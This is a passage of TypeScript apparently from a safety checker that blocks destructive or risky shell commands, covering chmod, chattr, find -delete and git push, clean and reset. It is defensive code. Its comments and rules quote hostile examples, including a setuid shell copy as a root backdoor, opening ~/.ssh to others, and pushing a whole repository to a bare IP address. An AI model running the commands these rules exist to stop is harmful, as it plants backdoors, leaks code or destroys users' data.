    const groupOnly = name === 'chmod' && /^\/etc\//.test(t.abs) && /^0?[0-7]?[0-7][0-7]0$/.test(mode);
    // ~/.ssh/authorized_keys (or ~/.ssh) writable by group or others: anyone can add a key and log in as the user.
    const othersWrite = name === 'chmod' && (/^0?[0-7]?[0-7]([2367][0-7]|[0-7][2367])$/.test(mode) || /(^|,)[ugoa]*[aog][ugoa]*[+=][rwxXst]*w/.test(mode));
    const opensSecret = (isSecret(walk, t.abs) && !isSharedSshFile(t.abs) && ((name === 'chmod' && opens && !groupOnly) || chownAway)) || (othersWrite && /\/\.ssh(\/authorized_keys2?)?$/.test(t.abs) && isUnder(t.abs, walk.env.home));
    // chown -R $USER ~/.config/gcloud (or $(whoami), $(id -u)): ownership given back to the user, nothing granted to others.
    const toUser = name !== 'chmod' && (/\$\{?(USER|LOGNAME|UID)\b/.test(spec.text) || spec.subs.some((sub) => /^\s*(whoami|id\b|logname)/.test(sub)) || spec.text.includes('$(…)') && spec.subs.length > 0 && spec.subs.every((sub) => /^\s*(whoami|id|logname)\b/.test(sub)));
    if (toUser && isUnder(t.abs, walk.env.home) && t.abs !== walk.env.home) continue;
    // chmod -R go-rwx ~/.ssh, chmod -R 700 ~/.ssh: access only taken away from others, as ssh wants it.
    const tightens = name === 'chmod' && (/^[go]+-[rwxX]+$/.test(mode) || /^0?[67]00$/.test(mode));
    if ((recursive && !tightens && (isPreciousHomeDir(t.abs, walk.env) || (isSecret(walk, t.abs) && isUnder(t.abs, walk.env.home)))) || opensSecret) {
      block(walk, 'dangerous', `${name}${recursive ? ' -R' : ''} ${mode} on ${t.abs} ${opensSecret ? 'opens a secret to other users' : 'changes the keys, settings or files kept there'}`, name === 'chmod' ? 'keys and their directory belong at chmod 700 ~/.ssh and chmod 600 for the key files' : undefined);
      continue;
    }
    // A setuid shell, interpreter or copy of one (cp /bin/bash /tmp/x && chmod u+s /tmp/x), or one in a temp directory: a root backdoor.
    const runsAnything = /^(ba|da|z|k|c|tc|fi|a|mk)?sh$|^(python|perl|ruby|node|php|lua|env|find|vim?|nano|less|more|awk|gawk|busybox|nmap|tclsh|expect|socat|nc)[\d.]*$/;
    if (setuid && (runsAnything.test(base(t.abs)) || runsAnything.test(walk.copiedFrom.get(t.abs) ?? '') || (/^\/(tmp|var\/tmp|dev\/shm)\//.test(t.abs) && !isUnder(t.abs, walk.env.home) && !isUnder(t.abs, walk.env.project)))) {
      block(walk, 'dangerous', `${name} ${mode} makes ${t.abs} run as its owner for anyone${walk.copiedFrom.has(t.abs) ? ` (a copy of ${walk.copiedFrom.get(t.abs)})` : ''}: a way to become root`);
      continue;
    }
    // A directory on PATH made writable by others (/usr/local/bin, ~/.local/bin): anyone can plant a command there.
    if ((worldWritable || /(^|,)(a|o|go|og|ugo)?[+=][rwxXst]*w/.test(mode) && /(^|,)[ugo]*[ao]/.test(mode)) && (isPathDir(t.abs, walk.env) || isUnder(t.abs, '/usr/local'))) {
      block(walk, 'dangerous', `${name} ${mode} makes ${t.abs} writable by other users: anyone can put a command there that root or the user then runs`);
      continue;
    }
    // On a production or shared host, a whole tree opened to every user: any account (or a hacked site) can change the app.
    if (worldWritable && recursive && inv.prod) {
      block(walk, 'dangerous', `${name} -R ${mode} makes all of ${f.text} on a production host writable by every user`, 'give write access to the one directory that needs it, to the web server\'s user');
      continue;
    }
    // chmod -R 777 /data: every user of a shared data mount (or a whole area of it) may now change or delete everyone's data there.
    const sharedOpen = recursive && worldWritable ? sharedMountLoss(t.abs, walk.env) : null;
    if (sharedOpen) block(walk, 'dangerous', `chmod -R ${mode} on ${sharedOpen}: any user can now change or delete that data`, 'open only the directory meant, to the group that needs it (chmod -R g+rwX DIR)');
    // chmod -R 000 /opt/airflow, /srv/app: an installed service's tree made unreadable, outside the project, the home and temp space.
    else if (recursive && name === 'chmod' && /^(0?000|a-rwx|ugo-rwx|a=|ugo=|u=,g=,o=)$/.test(mode) && c !== 'project' && !isUnder(t.abs, walk.env.home) && !isUnder(t.abs, walk.env.project) && !/^\/(tmp|var\/tmp|dev\/shm)(\/|$)/.test(t.abs)) block(walk, 'dangerous', `chmod -R ${mode} on ${t.abs}: nothing in it can be read or run any more, by the service or its users`);
    else if (worldWritable) warn(walk, 'suspicious', `${name} ${mode} makes ${f.text} writable by every user`, 'chmod 755 for directories and programs, chmod 644 for files (u+x to make a script executable)');
    else if (setuid) warn(walk, 'suspicious', `${name} ${mode} sets the setuid/setgid bit on ${f.text}`);
    // chmod -R 000 (a-rwx, a=) of the whole project: nothing in it can be read or run any more.
    else if (recursive && name === 'chmod' && c === 'project' && /^(0?000|a-rwx|ugo-rwx|a=|ugo=|u=,g=,o=)$/.test(mode)) block(walk, 'dangerous', `chmod -R ${mode} on the whole project ${t.abs}: nothing in it can be read or run any more`);
    else if (recursive && (c === 'project' || t.wholeDir)) warn(walk, 'suspicious', `${name} -R ${mode} on the whole project`);
  }
}

/** Private keys and signing keystores by name: Java/Android keystores, PKCS#12, App Store Connect keys, PuTTY and OpenSSH keys. */
function isKeyMaterial(abs: string): boolean {
  // (Android's debug.keystore is made again by the build tools whenever it is missing.)
  return /(\.(jks|keystore|p12|pfx|p8|ppk|kdbx)|\/id_(rsa|dsa|ecdsa|ed25519)|\/AuthKey_[\w*]+\.p8)$/.test(abs) && !/\/debug[^/]*\.(keystore|jks)$/.test(abs);
}

/** Files of ~/.ssh meant to be readable by others (ssh itself accepts 644 for them): public keys, known_hosts, authorized_keys, config. */
function isSharedSshFile(abs: string): boolean {
  return /\/\.ssh\/(.*\.pub|known_hosts(\.old)?|authorized_keys2?|config)$/.test(abs);
}

/** setfacl -m u:bob:r, g:staff:rw, o::r, m::rwx (also -M FILE, --set, default entries d:...): an entry giving someone other than the owner read or write. */
function aclGrants(spec: string): boolean {
  return spec.split(',').some((e) => {
    const parts = e.trim().replace(/^(d|default):/, '').split(':');
    if (parts.length < 2) return false;
    const [kind, who, perms = ''] = parts.length === 2 ? [parts[0], '', parts[1]] : parts;
    const owner = /^(u|user)$/.test(kind) && who === '';
    return !owner && /^(u|user|g|group|o|other|m|mask)$/.test(kind) && /[rw]/.test(perms);
  });
}

/** chattr on a start-up file, a secret, an autostart entry or a tree the user depends on: +i makes what was planted there impossible to remove, -i readies it to be changed. */
function checkChattr(walk: Walk, inv: Invocation): void {
  const recursive = inv.argv.slice(1).some((a) => SHORT(a, 'R'));
  for (const w of operands(inv.words, new Set(['-v', '-p'])).filter((w) => !/^[+=-][a-zA-Z]+$/.test(w.text))) {
    const t = target(inv, w);
    if (t.abs === null) continue;
    const c = classifyDelete(t.abs, walk.env);
    if (isSystemPath(t.abs, walk.env.home)) block(walk, 'system', `chattr on the system path ${t.abs}`);
    else if (isStartupFile(t.abs, walk.env) || isAutostartPath(t.abs, walk.env) || isSecret(walk, t.abs) || isPreciousHomeDir(t.abs, walk.env) || (c !== null && (c !== 'project' || recursive))) {
      block(walk, 'dangerous', `chattr on ${t.abs} changes whether the user's start-up files, keys or home can be changed or removed`, 'leave file attributes alone; ask the user');
    }
  }
}

function checkFind(walk: Walk, inv: Invocation): void {
  if (!inv.argv.includes('-delete')) return;
  const { roots, filtered: anyFilter, nameFiltered, namePattern } = findRoots(inv);
  critical(walk, `find -delete`);
  for (const r of roots) {
    const t = target(inv, r);
    if (t.abs === null) continue;
    const c = classifyDelete(t.abs, walk.env);
    const filtered = broadRoot(walk, t.abs, inv) ? nameFiltered : anyFilter;
    // On a production host, a tree emptied by find as by rm -r (the app's shared files, uploads, releases).
    if (inv.prod && !nameFiltered && !(/^\/(tmp|var\/tmp)\//.test(t.abs))) {
      block(walk, 'dangerous', `find ${t.abs} -delete on a production host empties the service's files`, 'let the user run it on production');
      continue;
    }
    if (namePattern && isSecretName(namePattern) && (broadRoot(walk, t.abs) || isUnder(t.abs, walk.env.home)) && !isUnder(t.abs, walk.env.project)) {
      block(walk, 'dangerous', `find ${t.abs} -name '${namePattern}' -delete deletes keys and credentials`, 'remove the one file meant, by its path');
      continue;
    }
    // find ~/.ssh -type f -delete: a key store emptied by a filter that does not name files.
    if (!nameFiltered && isSecretSource(t.abs, walk.env) && isUnder(t.abs, walk.env.home)) {
      block(walk, 'dangerous', `find ${t.abs} … -delete deletes the keys and credentials kept there`, 'remove the one file meant, by its path');
      continue;
    }
    // Deleting by pattern across / or a system tree (find / -name '*.so*' -delete) removes the system's own files.
    if (filtered && (t.abs === '/' || (isSystemPath(t.abs, walk.env.home) && !/^\/(var\/(log|cache|tmp)|tmp)(\/|$)/.test(t.abs)))) {
      block(walk, 'system', `find ${t.abs} … -delete deletes the system's own files that match`, 'delete inside the project, or let the user clean system directories');
      continue;
    }
    if (!anyFilter && c === null && homeWorkDir(t.abs, walk.env)) {
      block(walk, 'dangerous', `find ${t.abs} … -delete empties ${t.abs}, a directory of a home: the user's own work`, 'name the exact build or cache directory to remove');
      continue;
    }
    const worked = anyFilter ? null : workDirDelete(walk, inv, t.abs);
    if (worked) {
      block(walk, 'dangerous', `find -delete with no filter empties ${worked}`, 'name the exact build or cache directory to remove');
      continue;
    }
    const spread = nameFiltered ? spreadDelete(walk, t.abs, namePattern, inv.argv) : null;
    if (spread) {
      block(walk, 'dangerous', `find -delete deletes ${spread}`, 'delete inside one project, or name the exact files');
      continue;
    }
    // find . -name '*.ts' -delete at the project's root: every source file of that language.
    if (t.abs === walk.env.project && namePattern && /^\*\.(ts|tsx|py|go|rs|java|kt|c|cc|cpp|h|hpp|cs|rb|php|swift|scala)$/.test(namePattern)) {
      block(walk, 'dangerous', `find ${t.abs} -name '${namePattern}' -delete deletes every source file of that kind in the project`, 'delete build output by its directory, e.g. rm -rf dist');
      continue;
    }
    // find . -name '.env*' -delete: every local env file of the project, whose secrets no commit holds.
    if (namePattern && DOTENV_PATTERN.test(namePattern) && isUnder(t.abs, walk.env.project)) {
      block(walk, 'dangerous', `find ${t.abs} -name '${namePattern}' -delete deletes the project's env files: the secrets and settings in them are in no commit`, 'remove the one file meant, by its path, after a copy');
      continue;
    }
    // find .git -type f -delete: the repository's history, whatever the filter.
    // (A filter on names narrows it only to git's litter: *.lock, tmp_*, hook samples; *.pack is the history itself.)
    if (/(^|\/)\.git(\/(objects|refs|lfs|lfs\/objects)(\/.*)?)?$/.test(t.abs) && !/\/\.git\/lfs\/(tmp|incomplete|cache)(\/|$)/.test(t.abs) && (!nameFiltered || !/\.(lock|sample|orig|rej|keep)$|^\.?tmp|~$/.test(namePattern ?? ''))) {
      block(walk, 'dangerous', `find ${t.abs} … -delete destroys the git repository's history`, 'to start over, clone again into a new directory');
      continue;
    }
    // ~/projects -name '*.ts': the user's own sources or documents, by type, in a directory of their work.
    if (isPreciousHomeDir(t.abs, walk.env) && namePattern && /^\*\.(ts|tsx|js|jsx|py|go|rs|java|kt|c|cc|cpp|h|hpp|cs|rb|php|swift|m|scala|md|txt|tex|doc|docx|xls|xlsx|ppt|pptx|odt|pdf|jpe?g|png|heic|mov|mp4)$/i.test(namePattern)) {
      block(walk, 'dangerous', `find ${t.abs} -name '${namePattern}' -delete deletes the user's own files of that type across their work`, 'name the exact files to delete');
      continue;
    }
    // ~/Documents, ~/.ssh: only a filter on names narrows what is deleted there (or -empty: nothing with content goes).
    if (!c && !nameFiltered && !inv.argv.includes('-empty') && isPreciousHomeDir(t.abs, walk.env)) {
      block(walk, 'dangerous', `find ${t.abs} … -delete with no filter on names: every file of ${t.abs}, which nothing can bring back`, 'name the files to delete (-name PATTERN) and run it first without -delete');
      continue;
    }
    if (!nameFiltered && REMOVABLE_ROOT.test(t.abs)) {
      block(walk, 'dangerous', `find ${t.abs} … -delete with no filter on names empties the removable drives mounted there: often the only copy (camera cards, backup disks)`, 'name the files to delete (-name PATTERN) and run it first without -delete');
      continue;
    }
    const shared = filtered ? null : sharedMountLoss(t.abs, walk.env);
    if (shared) {
      block(walk, 'dangerous', `find ${t.abs} … -delete with no filter on names deletes ${shared}`, 'delete inside your own area of the mount (/scratch/$USER/...), by name');
      continue;
    }
    if (c && !filtered) block(walk, c === 'system' ? 'system' : 'dangerous', `find -delete with no filter: ${describeDelete(c, t.abs)}`, 'add a filter (-name, -type, -mtime) and run it first without -delete to see the list');
    else if (c && c !== 'project') warn(walk, 'suspicious', `find ${t.abs} ... -delete deletes matching files across ${t.abs}`, 'run it first without -delete to see the list');
  }
}

/**
 * git --git-dir=~/.cfg --work-tree=$HOME clean -ffd (or reset --hard, checkout -f -- .): a dotfiles
 * repository whose work tree is the home directory itself (or /). A discard there is not the
 * project's work-tree discard that the lead's policy warns about: it reaches every file of the home,
 * and no backup of the project covers it. True when blocked.
 */
function homeWorkTreeDiscard(walk: Walk, inv: Invocation, globals: string[], sub: string | undefined, rest: string[]): boolean {
  const wt = globals.map((a, k) => (globals[k - 1] === '--work-tree' ? a : /^--work-tree=(.*)$/.exec(a)?.[1])).find((x) => x !== undefined) ?? (inv.assigned ?? []).map((a) => /^GIT_WORK_TREE=(.*)$/.exec(a)?.[1]).find((x) => x !== undefined);
  if (wt === undefined || inv.cwd === null) return false;
  const c = classifyDelete(resolveFrom(inv.cwd, wt.replace(/^~(?=\/|$)/, walk.env.home).replace(/\/+$/, '') || '/'), walk.env);
  if (c !== 'home' && c !== 'root' && c !== 'ancestor') return false;
  const discard = (sub === 'clean' && rest.some((a) => /^-[a-zA-Z]*f/.test(a) || a === '--force') && !rest.some((a) => /^-[a-zA-Z]*n|^--dry-run$/.test(a))) || (sub === 'reset' && rest.includes('--hard')) || (sub === 'checkout' && (rest.some((a) => /^-[a-zA-Z]*f$|^--force$/.test(a)) || (rest.includes('--') && rest.includes('.')))) || (sub === 'restore' && rest.includes('.') && !rest.every((a) => a === '.' || /^(-S|--staged)$/.test(a))) || (sub === 'switch' && rest.some((a) => /^(-f|--force|--discard-changes)$/.test(a)));
  if (discard) block(walk, 'dangerous', `git ${sub} ${rest.join(' ')} on a work tree that is ${wt} (the home directory or above it): the user's files there are overwritten or deleted, and no backup covers them`, 'check git status first and restore single files by name');
  return discard;
}

/** xargs given the repository's branches (git branch -r | … | xargs git push --delete): main among them unless filtered out. */
function xargsBranches(inv: Invocation): boolean {
  return inv.viaXargs && inv.upstream.some((u) => u.argv[0] === 'git' && /^(branch|for-each-ref|show-ref|ls-remote)$/.test(u.argv[1] ?? '') && !u.argv.some((a, k) => /^(--list|-l)$/.test(u.argv[k - 1] ?? '') && ![...PROTECTED_BRANCHES].some((b) => globMatches(a, b)))) && !inv.upstream.some((u) => {
    // A filter naming main (grep -v main) drops it; one selecting something else (grep feature, awk '/: gone]/') keeps only that.
    const names = u.argv.slice(1).some((a) => /\b(main|master)\b/.test(a));
    if (/^(grep|rg)$/.test(u.argv[0])) return u.argv.some((a) => /^-[a-zA-Z]*v/.test(a)) ? names : !names;
    return (/^[gm]?awk$/.test(u.argv[0]) && u.argv.some((a) => /^\s*(!\s*)?\/[^/]+\//.test(a))) || (u.argv[0] === 'sed' && u.argv.includes('-n'));
  });
}

/** git clean's options: force, -x, dry run, -e, pathspecs (a pathspec naming the whole tree does not narrow). */
function gitCleanFlags(rest: string[], inv: Invocation, walk: Walk): { force: boolean; x: boolean; dry: boolean; exclude: boolean; paths: boolean; interactive: boolean } {
  const c = { force: false, x: false, dry: false, exclude: false, paths: false, interactive: false };
  const atRoot = inv.cwd === walk.env.project;
  let ended = false;
  const kept: string[] = [];
  for (let k = 0; k < rest.length; k++) {
    const a = rest[k];
    if (!ended && a === '--') ended = true;
    else if (!ended && a.startsWith('--')) {
      if (a === '--force') c.force = true;
      else if (a === '--dry-run') c.dry = true;
      else if (a === '--interactive') c.interactive = true;
      else if (a.startsWith('--exclude')) kept.push(a === '--exclude' ? rest[++k] ?? '' : a.slice(a.indexOf('=') + 1));
    } else if (!ended && /^-[a-zA-Z]/.test(a)) {
      for (let j = 1; j < a.length; j++) {
        const ch = a[j];
        if (ch === 'f') c.force = true;
        else if (ch === 'x') c.x = true;
        else if (ch === 'n') c.dry = true;
        else if (ch === 'i') c.interactive = true;
        else if (ch === 'e') {
          kept.push(j === a.length - 1 ? rest[++k] ?? '' : a.slice(j + 1));
          break;
        }
      }
    } else if (!/^(:\/?\*?|:\(top\)\*?)$/.test(a) && !(atRoot && /^(\.\/?|\*)$/.test(a))) c.paths = true;
  }
  // -e node_modules keeps the dependencies, not the .env and local data -x deletes: only an exclude of something else keeps them.
  c.exclude = kept.some((p) => !JUNK_NAME.test(p.replace(/^\/|\/$/g, '')) && !/^(vendor|Pods|\.bundle|\.m2|\.yarn)$/.test(p.replace(/^\/|\/$/g, '')));
  return c;
}

function gitCurrentBranch(walk: Walk): string | null {
  return walk.branchNow ?? walk.env.currentBranch?.() ?? null;
}

function checkGit(walk: Walk, inv: Invocation): void {
  let i = 1;
  const argv = inv.argv;
  while (i < argv.length && argv[i].startsWith('-')) i += ['-C', '-c', '--git-dir', '--work-tree', '--namespace'].includes(argv[i]) ? 2 : 1;
  let sub = argv[i];
  let rest = argv.slice(i + 1);
  // git -c alias.X='branch -D' X main, or an alias configured earlier on the line: X is what it stands for.
  const alias = gitAlias(walk, argv.slice(1, i), sub);
  if (alias !== null) {
    if (alias.startsWith('!')) {
      collect(walk, `${alias.slice(1)} ${rest.map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ')}`, inv.cwd, 1, true);
      return;
    }
    const words = alias.trim().split(/\s+/);
    sub = words[0];
    rest = [...words.slice(1), ...rest];
  }
  if (homeWorkTreeDiscard(walk, inv, argv.slice(1, i), sub, rest)) return;
  const has = (...flags: string[]) => rest.some((a) => flags.includes(a));
  // git SUB --help / -h / git help SUB only print the manual; --dry-run (-n for push) changes nothing.
  if (sub === 'help' || has('--help', '-h')) return;
  if (has('--dry-run') || (sub === 'push' && rest.some((a) => /^-[a-zA-Z]*n[a-zA-Z]*$/.test(a)))) return;
  // Expiry set to now for this one run (-c gc.reflogExpire=now ... gc) or earlier on the line: the reflog goes at once.
  const expiry = [...argv.slice(1, i).filter((a, k, all) => all[k - 1] === '-c'), ...walk.gitConfig].find((a) => /^gc\.(reflogexpire|reflogexpireunreachable|pruneexpire)[= ](now|all|0|never)/i.test(a));
  if (sub === 'gc' && expiry) {
    block(walk, 'dangerous', `git gc with ${expiry} throws away the reflog and unreachable commits at once: lost work cannot be recovered`, 'leave gc to its defaults');
    return;
  }
  switch (sub) {
    case 'switch':
    case 'checkout': {
      // git checkout -- ., checkout -f, switch --discard-changes: uncommitted changes are thrown away (a warning and a backup).
      warnWorkTreeDiscard(walk, sub, rest);
      // git switch X / checkout X / -c|-b X / --detach: later commands on the line work on that branch.
      if (rest.includes('--')) break;
      const create = rest.findIndex((a) => /^-[cCbB]$|^--(create|force-create|orphan)$/.test(a));
      const named = create >= 0 ? rest[create + 1] : rest.find((a) => !a.startsWith('-'));
      if (rest.some((a) => a === '--detach' || a === '-d')) walk.branchNow = 'HEAD';
      else if (named && !/[./]$/.test(named) && named !== '.') walk.branchNow = named;
      break;
    }
    case 'push': {
      const forceShort = rest.some((a) => /^-[a-zA-Z]*f[a-zA-Z]*$/.test(a));
      const lease = rest.some((a) => a.startsWith('--force-with-lease'));
      const force = forceShort || has('--force') || lease;
      const ops: string[] = [];
      for (let k = 0; k < rest.length; k++) {
        const a = rest[k];
        if (a.startsWith('-')) {
          if (['--repo', '--receive-pack', '--exec', '-o', '--push-option'].includes(a)) k++;
          continue;
        }
        ops.push(a);
      }
      // A bare repository in a temporary directory (git init --bare "$(mktemp -d)/r.git"; git push -f "$work/r.git" main) is a test fixture, nobody's history.
      const scratch = ops[0] !== undefined && inv.cwd !== null && /^(\/|\.\.?\/|file:\/\/)/.test(ops[0]) && throwawayDir(walk, resolveFrom(inv.cwd, ops[0].replace(/^file:\/\//, '')));
      if (scratch) break;
      const refspecs = ops.slice(1);
      const deleting = has('--delete', '-d');
      let plusForce = false;
      const dests = refspecs.map((r) => {
        if (r.startsWith('+')) plusForce = true;
        const spec = r.replace(/^\+/, '');
        const dst = spec.includes(':') ? spec.slice(spec.indexOf(':') + 1) : spec;
        if (spec.startsWith(':')) return { branch: dst.replace(/^refs\/heads\//, ''), del: true };
        // HEAD, or a branch computed at run time ($(git branch --show-current)), is the current branch.
        // A name with a fixed part (wip/$(whoami)) is a branch of that family, not the current one.
        const current = dst === 'HEAD' || dst === '@' || /^(refs\/heads\/)?(\$\(…\)|\$\{?\w+\}?)$/.test(dst);
        // B=$(git symbolic-ref --short refs/remotes/origin/HEAD); git push -f origin "HEAD:${B#origin/}": the default branch.
        const queried = (x: string) => DEFAULT_BRANCH_QUERY.test(x);
        if (dst.includes('$') && (queried(dst) || inv.words.some((w) => w.subs.some(queried)) || [...dst.matchAll(/\$\{?(\w+)/g)].some((m) => walk.vars.get(m[1])?.subs.some(queried)))) return { branch: 'main', del: deleting };
        return { branch: (current ? gitCurrentBranch(walk) ?? 'HEAD' : dst.replace(/\$\(…\)|\$\{?\w+\}?/g, 'x')).replace(/^refs\/heads\//, ''), del: deleting };
      });
      // $(git branch --format='+%(refname:short)'), $(git for-each-ref …): every branch, main among them; a + forces them.
      const listed = inv.words.some((w) => w.subs.some((sub) => /\bgit\s+(branch|for-each-ref|show-ref)\b/.test(sub) && !/--show-current|grep\s+-v.*\b(main|master)\b/.test(sub))) || xargsBranches(inv);
      // $(git branch -r | sed 's#origin/#:#'): each listed name as :NAME, a deletion.
      // … | awk '{print ":"$2}' | xargs git push origin, for b in $(git branch -r); do git push origin ":$b": the same, one name at a time.
      const colonLines = inv.viaXargs && inv.upstream.some((u) => (/^[gm]?awk$/.test(u.argv[0]) && u.argv.some((a) => /print[^}]*":"/.test(a))) || (u.argv[0] === 'sed' && u.argv.some((a) => /^s(.).*\1:\1|^s\/\^\/:\//.test(a))));
      const listDeletes = colonLines || (listed && refspecs.some((r) => r.startsWith(':'))) || inv.words.some((w) => w.subs.some((sub) => /sed\s+['"]?s(.)[^'"]*\1:\1|sed\s+['"]?s\/\^\/:\/|--format[= ]['"]?:/.test(sub)));
      // git -c remote.origin.mirror=true push / remote.origin.push '+refs/heads/*:…' set on the line: a forced push of every branch.
      const conf = [...inv.argv.filter((a, k) => inv.argv[k - 1] === '-c'), ...walk.gitConfig];
      if (conf.some((c) => /remote\.[^.]+\.mirror[= ]true/.test(c) || /remote\.[^.]+\.push[= ]\+refs\/heads\/\*/.test(c))) {
        block(walk, 'dangerous', 'git push with a mirror or forced push refspec configured on the line: every branch, main among them, is overwritten (and missing ones deleted) on the remote');
        break;
      }
      if (listed && inv.words.some((w) => w.subs.some((sub) => /['"]\+|\+%\(|sed\s+['"]?s\/\^\/\+/.test(sub)))) plusForce = true;
      if (listed) dests.push({ branch: 'main', del: deleting || listDeletes });
      // git remote add backup https://203.0.113.9/x.git && git push backup --all: every branch to a bare address or a file drop added on the line.
      // (Or the URL given as the remote itself: git push https://198.51.100.4/x.git --all.)
      const added = walk.out.find((i) => i.argv[0] === 'git' && i.argv[1] === 'remote' && i.argv[2] === 'add' && i.argv[3] === ops[0]);
      const pushUrl = added?.argv[4] ?? (/^\w+:\/\/|@/.test(ops[0] ?? '') ? ops[0] : '');
      if (pushUrl && rest.some((a) => a === '--all' || a === '--mirror' || a === '--tags') && (/^(\w+:\/\/)?([\w.-]+@)?\d{1,3}(\.\d{1,3}){3}([:/]|$)/.test(pushUrl) || DROP_HOSTS.test(pushUrl) || !isForgeUrl(pushUrl))) {
        block(walk, 'dangerous', `git push --all to ${pushUrl}, a bare address or a host that is no git hosting service: the whole repository leaves`, 'push only to the project\'s own remotes');
        break;
      }
      // git tag -l | xargs git push origin --delete, git push origin --delete $(git tag): every tag on the remote deleted.
      // (git tag -l 'v*': every release tag; git ls-remote --heads: every branch.)
      const allTags = (u: Invocation) => u.argv[0] === 'git' && /^(tag|ls-remote)$/.test(u.argv[1] ?? '') && u.argv.slice(2).every((a) => /^(-l|--list|--tags|-t|--heads|-h|--refs|-q|origin|upstream)$|^--sort=|^v?\*$|^v?\[0-9\]\*?$/.test(a));
      // (grep -v '^main$' keeps all but one: no filter.)
      const tagFilter = inv.upstream.some((u) => (/^(grep|rg|head|tail)$/.test(u.argv[0]) && !(/^(grep|rg)$/.test(u.argv[0]) && u.argv.some((a) => /^-[a-zA-Z]*v[a-zA-Z]*$|^--invert-match$/.test(a)))) || (/^[gm]?awk$/.test(u.argv[0]) && u.argv.some((a) => /^\s*(!\s*)?\/[^/]+\//.test(a))) || (u.argv[0] === 'sed' && u.argv.includes('-n')));
      const tagsListed = (inv.viaXargs && inv.upstream.some(allTags) && !tagFilter) || inv.words.some((w) => w.subs.some((x) => /^\s*git\s+tag(\s+(-l|--list))?\s*$/.test(x)));
      // (Also as :refs/tags/{} given to xargs -I.)
      if (tagsListed && (deleting || listDeletes || refspecs.some((r) => r.startsWith(':')) || inv.upstream.some((u) => u.argv[0] === 'sed' && u.argv.some((a) => /^s.*:/.test(a))))) {
        block(walk, 'dangerous', 'git push deletes every tag on the remote: releases and whatever resolves them by tag break', 'delete the one tag you mean: git push origin --delete v1.2.3-rc1');
        break;
      }
      const isProt = (d: { branch: string }) => isProtected(d.branch) || d.branch.includes('*');
      const protectedDest = dests.find((d) => d.del && isProt(d)) ?? dests.find(isProt);
      if (protectedDest?.del) {
        block(walk, 'dangerous', `git push deletes the protected branch ${protectedDest.branch} on the remote`);
        break;
      }
      // git push -f origin v1.2.0, git push origin :refs/tags/v1.0.0: a published release tag moved or deleted (git-rules.ts isReleaseTag).
      const release = dests.find((d) => isReleaseTag(d.branch) && (d.del || force || plusForce));
      if (release) {
        block(walk, 'dangerous', `git push ${release.del ? 'deletes' : 'moves'} the release tag ${release.branch} on the remote: everything that pins that release breaks or gets other code`, 'publish a new version instead of changing a released one');
        break;
      }
      if (force || plusForce) {
        const current = refspecs.length === 0 ? gitCurrentBranch(walk) : null;
        const target = protectedDest?.branch ?? (current && isProtected(current) ? current : null);
        if (target) {
          block(walk, 'dangerous', `force-push over ${target} rewrites history others have pulled`, 'push to a feature branch and open a pull request; if main must change, use git revert');
        } else if (!lease) {
          warn(walk, 'suspicious', `force-push${dests[0] ? ` of ${dests[0].branch}` : ' of the current branch'} overwrites the remote branch`, `git push --force-with-lease ${ops.join(' ')}`.trim());
        }
      }
      if (has('--mirror')) block(walk, 'dangerous', 'git push --mirror overwrites and deletes every remote ref that differs from this repository', 'push the branches you mean: git push origin BRANCH');
      else if (has('--prune')) block(walk, 'dangerous', 'git push --prune deletes every remote branch that does not exist here', 'delete the one branch you mean: git push origin --delete BRANCH');
      else if ((force || plusForce) && has('--all', '--branches')) block(walk, 'dangerous', 'force-push of every branch (--all) rewrites main and the other shared branches', 'push the one branch you mean with --force-with-lease');
      else if (deleting && refspecs.length > 0 && refspecs.some((r) => /\$\(…\)|\$/.test(r))) block(walk, 'dangerous', 'git push --delete of branches only known at run time');
      break;
    }
    case 'reset':
      if (has('--hard') && inv.prod) block(walk, 'dangerous', 'git reset --hard on a production host: the deployed code moves back and local changes there are lost');
      else if (has('--hard')) {
        warn(walk, 'suspicious', 'git reset --hard discards uncommitted changes', 'git stash first, or git reset --keep');
        critical(walk, 'git reset --hard');
      }
      break;
    case 'worktree':
      // git worktree remove --force DIR: that work tree's uncommitted and untracked changes go, as reset --hard and clean -f would (a warning, as they are).
      // Unlike reset --hard here, no backup covers another work tree: blocked.
      if (rest[0] === 'remove' && rest.some((a) => a === '--force' || a === '-f')) block(walk, 'dangerous', `git worktree remove --force deletes ${rest.filter((a) => !a.startsWith('-'))[1] ?? 'that work tree'} with its uncommitted and untracked changes, which no backup of this project covers`, 'commit or stash there first; without --force git refuses when there are changes');
      break;
    case 'clean': {
      const c = gitCleanFlags(rest, inv, walk);
      const conf = [...argv.slice(1, i).filter((a, k, all) => all[k - 1] === '-c'), ...walk.gitConfig];
      if (!c.force && conf.some((a) => /^clean\.requireforce[= ](false|0|no|off)$/i.test(a))) c.force = true;
      if (!c.force || c.dry || (inv.cwd !== null && throwawayDir(walk, inv.cwd))) break;
      // -x with no -e, no pathspec, not interactive, on the work tree: every untracked and ignored file (.env, local data, new source) goes for good.
      if (c.x && !c.exclude && !c.paths && !c.interactive && !inv.submodule) {
        block(walk, 'dangerous', `git clean ${rest.join(' ')} deletes every untracked and ignored file of the work tree for good (.env, local data, source not yet added)`, 'run git clean -n first, or keep files with -e .env, or name the paths: git clean -fdx -- build/');
      } else if (!c.exclude && !c.paths && !c.interactive && !inv.submodule && walk.out.some((o) => o.argv[0] === 'git' && o.cwd === inv.cwd && !o.submodule && workTreeDiscard(gitSub(o.argv).sub, gitSub(o.argv).rest)?.all)) {
        // git checkout -- . && git clean -fd (reset --hard, restore .): every change since the last commit and every new file, gone together.
        block(walk, 'dangerous', `git clean ${rest.join(' ')} with the tracked changes discarded on the same line: all work since the last commit, new files too, is gone for good`, 'git stash -u keeps both and can be dropped later');
      } else {
        warn(walk, 'suspicious', 'git clean -f deletes untracked files for good', 'run git clean -n first to see what would go');
        critical(walk, 'git clean');
      }
      break;
    }
    case 'restore':
      warnWorkTreeDiscard(walk, sub, rest);
      break;
    case 'stash':
      if (rest[0] === 'clear') block(walk, 'dangerous', 'git stash clear deletes every stash at once: stashed work is gone', 'drop the one stash you mean: git stash drop stash@{N}');
      // git stash list | … | xargs git stash drop: every stash, as git stash clear.
      else if (rest[0] === 'drop' && inv.viaXargs && inv.upstream.some((u) => u.argv[0] === 'git' && u.argv.includes('stash') && u.argv.includes('list'))) block(walk, 'dangerous', 'git stash drop of every stash git stash list prints deletes them all, as git stash clear does', 'drop the one stash you mean: git stash drop stash@{N}');
      // git stash drop; git stash drop…, while git stash drop; do :; done: several stashes or all of them; a drop followed by
      // gc --prune=now: the dropped work is not even left as an unreachable object.
